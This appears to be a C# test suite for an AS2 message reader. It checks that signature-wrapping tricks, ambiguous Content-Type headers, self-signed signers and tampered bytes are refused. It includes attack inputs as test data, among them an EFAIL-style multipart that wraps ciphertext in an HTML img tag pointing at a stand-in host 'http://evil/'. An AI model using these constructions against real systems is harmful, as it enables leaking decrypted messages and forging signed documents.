using System.Text;
using Waybill.Cms;

namespace Waybill.As2.Tests;

/// <summary>Unsigned bytes never pass as signed, wherever they stand.</summary>
public sealed class SignatureWrappingTests
{
    private static readonly byte[] Evil = TestMessage.Entity("Content-Type: application/EDIFACT", "EVIL"u8.ToArray());
    private static readonly byte[] Signature = TestMessage.Entity("Content-Type: application/pkcs7-signature; name=smime.p7s", TestMessage.Signature(TestMessage.V1));
    private static readonly As2ReadOptions MustBeSigned = Reading.Open with { Signature = Requirement.Required };

    public static TheoryData<string, byte[][]> WrongParts => new()
    {
        { "third part after the signature", [TestMessage.V1, Signature, Evil] },
        { "content before the content", [Evil, TestMessage.V1, Signature] },
        { "signature first", [Signature, TestMessage.V1] },
        { "content alone", [TestMessage.V1] },
        { "signature alone", [Signature] },
        { "two contents", [TestMessage.V1, Evil] },
        { "two signed pairs", [TestMessage.V1, Signature, Evil, Signature] },
        { "no parts", [] },
        { "signature in a multipart", [TestMessage.V1, TestMessage.Entity("Content-Type: multipart/mixed; boundary=in", [.. "--in\r\n"u8, .. Signature, .. "\r\n--in--\r\n"u8])] },
    };

    [Theory]
    [MemberData(nameof(WrongParts))]
    [Requirement("AS2-STRUCT-013", "AS2-SEC-015")]
    public async Task A_signed_multipart_has_exactly_the_content_and_its_signature(string what, byte[][] parts)
    {
        var entity = TestMessage.Multipart("sha-256", parts);
        Reading.Refused(await TestMessage.Http(entity).ReadAsync(MustBeSigned, bytesARead: 3), As2Failure.BadStructure);
        Reading.Refused(await TestMessage.Http(TestMessage.Compressed(entity)).ReadAsync(MustBeSigned), As2Failure.BadStructure);
        Assert.NotEmpty(what);
    }

    [Theory]
    [InlineData("Content-Type: multipart/signed; boundary=other; micalg=sha-256; boundary=sig", As2Failure.BadStructure)]
    [InlineData("Content-Type: multipart/signed; boundary=sig; boundary=sig", As2Failure.BadStructure)]
    [InlineData("Content-Type: multipart/signed; boundary=sig; boundary*=other", As2Failure.BadStructure)]
    [InlineData("Content-Type: multipart/signed; boundary=sig\r\nContent-Type: text/plain", As2Failure.BadStructure)]
    [InlineData("Content-Type: multipart/signed; micalg=sha-256", As2Failure.BadMime)]
    [Requirement("AS2-SEC-015", "AS2-HDR-018")]
    public async Task Headers_that_two_readers_could_read_in_two_ways_are_refused(string header, As2Failure failure)
    {
        var body = TestMessage.Split(TestMessage.Signed(TestMessage.V1)).Body;
        Reading.Refused(await TestMessage.Http(TestMessage.Entity(header, body)).ReadAsync(MustBeSigned), failure);
        Reading.Refused(await TestMessage.Http(TestMessage.EncryptedGcm(TestMessage.Entity(header, body))).ReadAsync(MustBeSigned), failure);
    }

    [Fact]
    [Requirement("AS2-STRUCT-013")]
    public async Task A_signed_signature_is_no_document()
        => Reading.Refused(await TestMessage.Build("SP", Signature).ReadAsync(MustBeSigned), As2Failure.BadStructure);

    [Theory]
    [InlineData("multipart/mixed")]
    [InlineData("multipart/related")]
    [Requirement("AS2-SEC-015")]
    public async Task A_signed_part_beside_unsigned_ones_signs_nothing(string type)
    {
        var entity = TestMessage.Entity($"Content-Type: {type}; boundary=out",
            [.. "--out\r\n"u8, .. TestMessage.Signed(TestMessage.V1), .. "\r\n--out\r\n"u8, .. Evil, .. "\r\n--out\r\n"u8, .. TestMessage.Signed(TestMessage.V1), .. "\r\n--out--\r\n"u8]);
        foreach (var message in (TestMessage[])[TestMessage.Http(entity), TestMessage.Http(TestMessage.EncryptedGcm(entity)), TestMessage.Http(TestMessage.Compressed(entity))])
        {
            Reading.Refused(await message.ReadAsync(MustBeSigned), As2Failure.SignatureMissing);

            // Where unsigned messages are taken it is one, with the signed pieces as mere documents.
            await using var unsigned = await message.ReadAsync();
            Assert.Equal((false, null), (unsigned.IsSigned, unsigned.Signer));
            Assert.Equal(3, unsigned.Payloads.Count);
            Assert.All(unsigned.Payloads, p => Assert.Equal(unsigned.IsEncrypted, p.IsAuthenticated));
        }
    }

    [Fact]
    [Requirement("AS2-HTTP-013", "AS2-SEC-015")]
    public async Task Preamble_and_epilogue_are_neither_hashed_nor_delivered()
    {
        var (headers, body) = TestMessage.Split(TestMessage.Signed(TestMessage.V1));
        byte[] wrapped = [.. headers, .. "EVIL preamble\r\nContent-Type: text/plain\r\n\r\nEVIL\r\n"u8, .. body, .. "EVIL epilogue\r\n--sig\r\nContent-Type: text/plain\r\n\r\nEVIL\r\n--sig--\r\n"u8];
        await using var verdict = await TestMessage.Http(wrapped).ReadAsync(MustBeSigned, bytesARead: 7);
        Assert.Equal(TestMessage.V1, await verdict.Entity!.BytesAsync());
        Assert.Equal(TestMessage.V1Content, Encoding.ASCII.GetString(await Assert.Single(verdict.Payloads).BytesAsync()));
    }

    [Theory]
    [InlineData("prefix")]
    [InlineData("suffix")]
    [InlineData("header")]
    [Requirement("AS2-DISP-004")]
    public async Task Bytes_added_to_the_signed_part_break_its_digest(string where)
    {
        byte[] changed = where switch
        {
            "prefix" => TestMessage.Entity(TestMessage.V1Headers.TrimEnd(), [.. "EVIL"u8, .. Encoding.ASCII.GetBytes(TestMessage.V1Content)]),
            "suffix" => [.. TestMessage.V1, .. "EVIL"u8],
            _ => [.. "X-Evil: 1\r\n"u8, .. TestMessage.V1],
        };
        await using var verdict = await TestMessage.Http(TestMessage.Multipart("sha-256", changed, Signature)).ReadAsync(MustBeSigned);
        Reading.Refused(verdict, As2Failure.DigestMismatch);
        Assert.NotNull(verdict.OutwardMic);
        Assert.Equal("automatic-action/MDN-sent-automatically; processed/error: integrity-check-failed", verdict.DispositionFor(As2Profile.Rfc4130).ToString());
    }

    [Fact]
    [Requirement("AS2-CRYPTO-016", "AS2-DISP-003")]
    public async Task A_signature_by_the_certificate_it_carries_proves_nothing()
    {
        var message = TestMessage.Http(TestMessage.Signed(TestMessage.V1, signer: TestIdentities.Rsa("mallory")));
        await using var verdict = await message.ReadAsync(MustBeSigned);
        Reading.Refused(verdict, As2Failure.UnknownSigner);
        Assert.Equal((null, As2LayerStatus.Bad), (verdict.Signer, Assert.Single(verdict.Layers).Status));
        Assert.Equal("automatic-action/MDN-sent-automatically; processed/error: authentication-failed", verdict.DispositionFor(As2Profile.Rfc4130).ToString());
    }

    [Fact]
    [Requirement("AS2-SEC-015")]
    public async Task A_signature_that_brings_its_own_content_signs_nothing_beside_it()
    {
        var own = TestMessage.Entity("Content-Type: application/pkcs7-signature; name=smime.p7s", TestMessage.Signature(TestMessage.V1, detached: false));
        Reading.Refused(await TestMessage.Http(TestMessage.Multipart("sha-256", Evil, own)).ReadAsync(MustBeSigned), As2Failure.DigestMismatch);
        Reading.Refused(await TestMessage.Http(TestMessage.EncryptedGcm(TestMessage.Multipart("sha-256", Evil, own))).ReadAsync(MustBeSigned), As2Failure.DigestMismatch);
    }

    [Fact]
    [Requirement("AS2-SEC-015")]
    public async Task A_signature_of_the_multipart_around_is_none_of_the_part_in_it()
    {
        // What was signed is V1; it travels as a part of a multipart that is signed by nobody, with V1's signature at its end.
        var inside = TestMessage.Entity("Content-Type: multipart/mixed; boundary=in", [.. "--in\r\n"u8, .. TestMessage.V1, .. "\r\n--in\r\n"u8, .. Evil, .. "\r\n--in--\r\n"u8]);
        Reading.Refused(await TestMessage.Http(TestMessage.Multipart("sha-256", inside, Signature)).ReadAsync(MustBeSigned), As2Failure.DigestMismatch);
    }

    [Theory]
    [InlineData("multipart/mixed")]
    [InlineData("multipart/related")]
    [InlineData("multipart/alternative")]
    [Requirement("AS2-SEC-003", "AS2-SEC-015")]
    public async Task An_encrypted_part_among_clear_ones_is_a_document_and_is_never_decrypted(string type)
    {
        // EFAIL's direct exfiltration: clear text of a stranger around the ciphertext of somebody's message, so that the reader joins them.
        var secret = TestMessage.Encrypted(TestMessage.Signed(TestMessage.Entity("Content-Type: text/plain", "SECRET"u8.ToArray())));
        var trap = TestMessage.Entity($"Content-Type: {type}; boundary=trap",
        [
            .. "--trap\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n--trap\r\n"u8, .. secret,
            .. "\r\n--trap\r\nContent-Type: text/html\r\n\r\n\">\r\n--trap--\r\n"u8,
        ]);
        Reading.Refused(await TestMessage.Http(trap).ReadAsync(MustBeSigned), As2Failure.SignatureMissing);

        await using var open = await TestMessage.Http(trap).ReadAsync();
        Assert.Equal((3, false, false), (open.Payloads.Count, open.IsEncrypted, open.IsSigned));
        Assert.Equal(TestMessage.Split(secret).Body, await open.Payloads[1].BytesAsync());
        foreach (var payload in open.Payloads)
        {
            Assert.False(payload.IsAuthenticated);
            Assert.DoesNotContain("SECRET", Encoding.Latin1.GetString(await payload.BytesAsync()), StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Tools_see_what_is_there_and_that_nothing_vouches_for_it()
    {
        var look = Reading.Open with { SignerCertificates = [], TakeUnverified = true, Policy = CmsPolicy.ReadEverything };
        await using var verdict = await TestMessage.Build("ESZP").ReadAsync(look);
        Assert.Equal((As2Failure.UnknownSigner, As2Failure.ProtectedContentRefused), (verdict.Failure, verdict.OutwardFailure));
        Assert.Equal([As2LayerStatus.Good, As2LayerStatus.Unchecked, As2LayerStatus.Good], verdict.Layers.Select(l => l.Status));
        var payload = Assert.Single(verdict.Payloads);
        Assert.Equal((false, TestMessage.V1Content), (payload.IsAuthenticated, Encoding.ASCII.GetString(await payload.BytesAsync())));

        await using var known = await TestMessage.Build("ESZP").ReadAsync(look with { SignerCertificates = [Reading.AlicesCertificate], Compression = Requirement.Forbidden });
        Assert.Equal((As2Failure.CompressionNotAllowed, true), (known.Failure, Assert.Single(known.Payloads).IsAuthenticated));
    }
}
